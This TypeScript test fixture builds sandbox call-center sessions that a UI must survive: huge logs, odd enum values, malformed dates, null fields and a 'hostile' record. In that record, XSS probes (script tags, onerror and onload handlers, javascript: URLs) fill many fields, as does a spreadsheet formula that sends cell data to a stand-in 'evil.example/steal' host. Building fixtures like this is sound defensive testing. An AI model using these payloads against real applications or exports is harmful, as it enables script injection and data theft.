// Specimen sessions (SANDBOX_SPECIMENS=1): fixed ids, each holding one kind of trouble a screen must
// survive. All are dated within the last day of the clock so the default 7-day live view shows them.
// docs/sandbox.md lists what each one holds.
import type { World } from './world';
import { buildTransferSpecimens, TRANSFER_IDS } from './transfer-specimens';

export const SPECIMEN_IDS = {
  hugeLog: 'specimen-huge-log',
  hostile: 'specimen-hostile',
  oddEnums: 'specimen-odd-enums',
  oddDates: 'specimen-odd-dates',
  sparse: 'specimen-sparse',
  transfer: TRANSFER_IDS.call,
  transferLeg: TRANSFER_IDS.leg,
  transferLeg2: TRANSFER_IDS.leg2,
} as const;

export const HUGE_LOG_LINES = 5000;
export const LONG_STRING_LENGTH = 10_000;
export const UNPARSEABLE_DATE = 'yesterday-ish';

export const HOSTILE = {
  img: '<img src=x onerror=alert(1)>',
  script: '<script>alert(1)</script>',
  jsUrl: 'javascript:alert(1)',
  formula: '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for refund")',
  rtl: 'مركز الاتصال الرئيسي ‏שלום עולם‏ ‮reversed‬',
  emoji: '🦄 Agent 👩🏽‍💻🔥 ☎️',
  long: 'A'.repeat(LONG_STRING_LENGTH - 7) + ' …END!',
} as const;

export interface Specimen {
  id: string;
  /** Sort/filter key: epoch ms the specimen counts as created at (its wire date may be odd). */
  createdMs: number;
  /** Exact JSON the sandbox answers for this session (may hold nulls the wire types do not allow). */
  wire: Record<string, unknown>;
}

const HOUR = 60 * 60 * 1000;
const iso = (ms: number) => new Date(ms).toISOString();
const wcf = (ms: number) => `/Date(${ms}-0000)/`;

export function buildSpecimens(now: number, world: World): Specimen[] {
  const customer = world.customers[0];
  const account = customer ? world.accountById.get(customer.accountId) : undefined;
  const agent = customer?.agents[0];
  const number = customer?.numbers[0];
  const owner = {
    accountId: account?.id,
    accountName: account?.name,
    customerId: customer?.id,
    customerName: customer?.name,
    customerBreadcrumb: customer?.breadcrumb,
    endpointId: number?.id,
    endpointName: number?.name,
  };

  const hugeCreated = now - 2 * HOUR;
  const hugeLog = {
    id: SPECIMEN_IDS.hugeLog,
    dateCreated: iso(hugeCreated),
    dateLastModified: iso(hugeCreated + HUGE_LOG_LINES * 1000),
    dateCompleted: iso(hugeCreated + HUGE_LOG_LINES * 1000),
    ...owner,
    dialState: 'None',
    callState: 'Disconnected',
    queueState: 'Disconnected',
    channel: 'Voice',
    direction: 'Incoming',
    fromAddress: '+15035550100',
    fromName: 'LONG CALLER',
    toAddress: number?.address ?? '+15035550199',
    answeredByName: agent?.name,
    answeredById: agent?.id,
    outcome: 'Answered',
    wasMissed: false,
    ended: true,
    callSid: `CA${'0'.repeat(31)}1`,
    log: Array.from({ length: HUGE_LOG_LINES }, (_, i) => ({
      date: iso(hugeCreated + i * 1000),
      message: `Log line ${i + 1} of ${HUGE_LOG_LINES}: caller still in the menu, played prompt ${(i % 12) + 1}`,
    })),
    members: [{ identity: '+15035550100', displayName: 'LONG CALLER', role: 'Caller', callState: 'None' }],
  };

  const hostileCreated = now - 3 * HOUR;
  const allHostile = Object.values(HOSTILE).join(' | ');
  const hostile = {
    id: SPECIMEN_IDS.hostile,
    dateCreated: iso(hostileCreated),
    dateLastModified: iso(hostileCreated + 60_000),
    dateCompleted: iso(hostileCreated + 60_000),
    createdBy: HOSTILE.script,
    lastModifiedBy: HOSTILE.img,
    accountId: account?.id,
    accountName: HOSTILE.img,
    customerId: customer?.id,
    customerName: HOSTILE.script,
    customerBreadcrumb: [
      { id: customer?.id, name: HOSTILE.formula },
      { id: HOSTILE.jsUrl, name: HOSTILE.rtl },
    ],
    endpointId: number?.id,
    endpointName: HOSTILE.formula,
    dialState: 'None',
    callState: 'Disconnected',
    queueState: 'None',
    channel: 'Voice',
    direction: 'Incoming',
    destination: HOSTILE.long,
    fromAddress: `+1503${HOSTILE.img}`,
    fromName: HOSTILE.rtl,
    toAddress: HOSTILE.formula,
    answeredByName: HOSTILE.emoji,
    answeredById: HOSTILE.script,
    queueMemberId: HOSTILE.img,
    outcome: `<b>Answered</b>${HOSTILE.script}`,
    wasMissed: false,
    ended: true,
    callSid: HOSTILE.script,
    conferenceSid: HOSTILE.img,
    consoleData: HOSTILE.long,
    holdQueueName: HOSTILE.rtl,
    heldByUserId: HOSTILE.formula,
    holdReason: 'None',
    displayName: HOSTILE.emoji,
    callbackNumber: HOSTILE.jsUrl,
    fromPhoneNumber: HOSTILE.formula,
    mostRecentParticipantCallSid: HOSTILE.img,
    ringQueueId: HOSTILE.script,
    log: [
      { date: iso(hostileCreated), message: HOSTILE.script },
      { date: iso(hostileCreated + 1000), message: HOSTILE.img },
      { date: iso(hostileCreated + 2000), message: HOSTILE.formula },
      { date: iso(hostileCreated + 3000), message: HOSTILE.rtl },
      { date: iso(hostileCreated + 4000), message: HOSTILE.emoji },
      { date: iso(hostileCreated + 5000), message: HOSTILE.long },
      { date: iso(hostileCreated + 6000), message: allHostile },
    ],
    members: [
      {
        identity: HOSTILE.script,
        endpointId: HOSTILE.img,
        displayName: HOSTILE.img,
        isOriginalMember: true,
        avatarUrl: HOSTILE.jsUrl,
        applicationData: {
          [HOSTILE.script]: HOSTILE.img,
          note: HOSTILE.formula,
          rtl: HOSTILE.rtl,
          long: HOSTILE.long,
        },
        callState: 'None',
        role: 'Caller',
        callSid: HOSTILE.formula,
        muted: false,
      },
      {
        identity: HOSTILE.emoji,
        displayName: HOSTILE.long,
        avatarUrl: `data:image/svg+xml,${encodeURIComponent('<svg onload="alert(1)"/>')}`,
        applicationData: { emoji: HOSTILE.emoji },
        callState: 'None',
        role: 'Agent',
      },
    ],
  };

  const oddEnumsCreated = now - 4 * HOUR;
  const oddEnums = {
    id: SPECIMEN_IDS.oddEnums,
    dateCreated: iso(oddEnumsCreated),
    dateLastModified: iso(oddEnumsCreated + 120_000),
    dateCompleted: iso(oddEnumsCreated + 120_000),
    ...owner,
    dialState: 'Dialing',
    callState: 'Transcribing',
    queueState: 'Overflow',
    holdReason: 'Parked',
    channel: 'Video',
    direction: 'Sideways',
    fromAddress: '+15035550101',
    toAddress: number?.address ?? '+15035550199',
    outcome: 'Escalated',
    wasMissed: false,
    ended: true,
    log: [
      { date: iso(oddEnumsCreated), message: 'Video session started' },
      { date: iso(oddEnumsCreated + 60_000), message: 'Transcription running' },
      { date: iso(oddEnumsCreated + 120_000), message: 'Session ended' },
    ],
    members: [
      { identity: '+15035550101', displayName: 'Odd Caller', role: 'Caller', callState: 'Whispering' },
      {
        identity: 'sip:supervisor@example.com',
        displayName: 'Sam Supervisor',
        role: 'Supervisor',
        callState: 'Barging',
      },
    ],
  };

  const oddDatesCreated = now - 5 * HOUR;
  const oddDates = {
    id: SPECIMEN_IDS.oddDates,
    dateCreated: wcf(oddDatesCreated),
    dateLastModified: iso(oddDatesCreated + 90_000).replace('Z', ''),
    dateCompleted: UNPARSEABLE_DATE,
    ...owner,
    dialState: 'None',
    callState: 'Disconnected',
    queueState: 'None',
    channel: 'Voice',
    direction: 'Outgoing',
    fromAddress: number?.address ?? '+15035550199',
    toAddress: '+15035550102',
    outcome: 'Answered',
    wasMissed: false,
    ended: true,
    log: [
      { date: wcf(oddDatesCreated), message: 'Date as WCF /Date(ms-0000)/' },
      { date: iso(oddDatesCreated + 30_000).replace('Z', '+02:00'), message: 'Date with an offset' },
      { date: iso(oddDatesCreated + 60_000).replace('Z', ''), message: 'Date without a zone' },
      { date: UNPARSEABLE_DATE, message: 'Unparseable date' },
      { date: '', message: 'Empty date' },
    ],
    members: [{ identity: '+15035550102', displayName: 'Date Person', role: 'Caller', callState: 'None' }],
  };

  const sparseCreated = now - 6 * HOUR;
  const sparse = {
    id: SPECIMEN_IDS.sparse,
    dateCreated: iso(sparseCreated),
    dateCompleted: null,
    accountName: null,
    customerBreadcrumb: null,
    fromAddress: null,
    fromName: null,
    answeredByName: null,
    channel: null,
    outcome: null,
    log: null,
    members: [{ identity: null, role: null, applicationData: null }],
  };

  const transfers = buildTransferSpecimens(
    now - 7 * HOUR,
    owner,
    (customer?.agents ?? []).map((a) => a.name),
  );
  return [
    ...[hugeLog, hostile, oddEnums, oddDates, sparse].map((wire, i) => ({
      id: wire.id,
      createdMs: [hugeCreated, hostileCreated, oddEnumsCreated, oddDatesCreated, sparseCreated][i] ?? now,
      wire: wire as Record<string, unknown>,
    })),
    ...transfers.map(({ wire, createdMs }) => ({ id: wire.id, createdMs, wire })),
  ];
}
